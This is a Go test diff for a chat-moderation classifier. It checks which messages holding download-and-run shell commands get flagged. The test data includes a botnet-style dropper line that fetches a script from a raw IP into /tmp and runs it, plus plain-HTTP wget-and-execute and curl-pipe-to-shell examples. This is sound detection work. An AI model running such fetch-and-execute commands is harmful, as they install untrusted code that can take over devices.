@@ -31,3 +31,29 @@ func TestFileDrops(t *testing.T) {
 		}
 	}
 }
+
+// TestInstallScripts: a shell script fetched over TLS from a named site is
+// how projects publish their installers (curl -fsSL https://…/install.sh
+// | sh): noted, not flagged alone. Over plain HTTP, or from an address,
+// as botnets serve theirs to devices without TLS, it still warns.
+func TestInstallScripts(t *testing.T) {
+	t.Parallel()
+	c := bot.NewClassifier(bot.ClassifierConfig{})
+	tests := []struct {
+		text    string
+		flagged bool
+	}{
+		{"install with curl -fsSL https://get.example-tool.dev/install.sh | sh", false},
+		{"curl -sSf https://toolchain.example.org/init.sh | bash", false},
+		{"wget http://example-tool.dev/install.sh; sh install.sh", true},
+		{"cd /tmp; wget http://45.61.12.34/bins.sh; sh bins.sh", true},
+		{"https://45.61.12.34/x.sh", true},
+	}
+	for _, tc := range tests {
+		m := bot.Message{ID: "x", Platform: bot.Telegram, Chat: "c", User: "u", Time: t0, Text: tc.text, MemberSince: t0.AddDate(-1, 0, 0)}
+		v := c.Classify(&m, bot.Hints{}).Verdict
+		if (v.Level != bot.Allow) != tc.flagged {
+			t.Errorf("%q: %s (%.2f) %v, want flagged %v", tc.text, v.Level, v.Score, v.Reasons, tc.flagged)
+		}
+	}
+}
